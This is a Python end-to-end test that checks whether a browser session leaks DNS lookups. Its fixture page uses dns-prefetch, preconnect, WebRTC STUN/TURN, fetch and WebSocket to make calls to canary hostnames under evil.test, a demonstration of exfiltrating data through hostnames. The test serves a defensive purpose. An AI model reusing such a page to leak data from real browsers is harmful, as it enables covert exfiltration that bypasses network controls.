"""A page can put an answer into a host's name. Whoever is asked for that name then knows the answer.

The browser's own log of what it does to the network says whether it asked. Without our rule it does: for the
relay of a call it looks the name up by itself, although every connection goes through the gate.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from formbridge.browser import open_portal, session
from tests.e2e.browser.conftest import form
from tests.e2e.browser.site import Site

CANARY = "canarythatmuststayathome"
PAGE = f"""<link rel=dns-prefetch href=//{CANARY}1.evil.test><link rel=preconnect href=https://{CANARY}2.evil.test>
<script>
const relay = {{ urls: 'turn:{CANARY}3.evil.test:3478?transport=tcp', username: 'a', credential: 'b' }};
const call = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{CANARY}4.evil.test:3478' }}, relay] }});
call.createDataChannel('x');
call.onicegatheringstatechange = () => {{ if (call.iceGatheringState === 'complete') fetch('/gathered'); }};
call.createOffer().then((offer) => call.setLocalDescription(offer));
fetch('http://{CANARY}5.evil.test/', {{ mode: 'no-cors' }}).catch(() => 0);
new WebSocket('ws://{CANARY}6.evil.test/');
</script>"""


def asked_for(log: Path) -> list[str]:
    """The kinds of question with the word in them that the browser put to whoever knows names."""
    text = log.read_text("utf-8")
    try:
        told = json.loads(text)
    except ValueError:  # it ended before its log did
        told = json.loads(text.rstrip().rstrip(",") + "]}")
    kinds = {number: kind for kind, number in told["constants"]["logEventTypes"].items()}
    words = [(kinds[event["type"]], json.dumps(event.get("params", {}))) for event in told["events"]]
    assert any(CANARY in text for _, text in words)
    return [kind for kind, text in words if CANARY in text and kind.startswith(("DNS_", "HOST_RESOLVER_"))]


@pytest.mark.parametrize("ruled", [True, False], ids=["as we start it", "without the rule"])
def test_the_browser_asks_nobody_for_a_name(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *, ruled: bool
) -> None:
    log = tmp_path / "net.json"
    ours = [each for each in session._MORE if ruled or "host-resolver" not in each]
    monkeypatch.setattr(session, "_MORE", (*ours, f"--log-net-log={log}"))
    site.extra["/form/1"] = PAGE
    with (
        open_portal("small", site.url, (), form()) as portal,
        portal._page.expect_request("**/gathered", timeout=60_000),
    ):
        portal._page.goto(f"{site.url}/form/1")
    assert (asked_for(log) == []) is ruled
